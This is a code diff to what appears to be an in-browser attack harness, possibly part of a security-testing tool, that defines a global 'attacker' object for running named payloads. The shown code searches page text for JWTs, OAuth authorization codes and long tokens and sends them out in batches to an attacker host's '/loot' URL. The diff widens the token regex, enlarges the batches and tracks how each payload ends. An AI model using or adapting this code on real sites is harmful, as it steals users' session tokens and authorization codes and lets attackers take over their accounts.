@@ -5,6 +5,8 @@ declare global {
   var attacker: {
     /** Runs a payload to its end, or until it has had long enough. */
     run(name: string): Promise<string>;
+    /** How the last payload ended, if it has. */
+    ending: string | undefined;
     /** Sends what could not be sent at once. */
     flush(): Promise<void>;
     /** What script of another document of the same origin hands over. */
@@ -77,7 +79,7 @@ function install(
 
   /** What looks like a JWT, an authorization code in a URL or in JSON, or a random value. */
   const candidatesIn = (text: string): string[] => {
-    const tokens = text.match(/[\w-]{20,}(?:\.[\w-]{10,}){0,4}/g) ?? [];
+    const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{40,}/g) ?? [];
     const codes = text.match(/\bcode(?:=|":")[\w-]+/g) ?? [];
     return [...codes.map((code) => code.replace('":"', "=")), ...tokens];
   };
@@ -111,7 +113,7 @@ function install(
     while (waiting.length > 0) {
       // A URL that is too long is refused by the server.
       const batch: [string, string][] = [];
-      for (let length = 0; waiting[0] && length < 5_000; length += waiting[0]?.[1].length ?? 0) {
+      for (let length = 0; waiting[0] && length < 10_000; length += waiting[0]?.[1].length ?? 0) {
         batch.push(waiting.shift() as [string, string]);
       }
       location.href = `${facts.attackerUrl}/loot?${new URLSearchParams({ loot: json.stringify(batch) })}`;
@@ -187,6 +189,7 @@ function install(
     value: {
       take,
       flush,
+      ending: undefined,
       async run(name: string) {
         const payload = payloads[name];
         if (!payload) return "there is no such payload";
@@ -198,7 +201,10 @@ function install(
             return `threw ${error}`;
           }
         })();
-        return await Pledge.race([outcome, pause(payloadTime).then(() => "had its time")]);
+        attacker.ending = undefined;
+        const ending = await Pledge.race([outcome, pause(payloadTime).then(() => "had its time")]);
+        attacker.ending = ending;
+        return ending;
       },
     },
   });
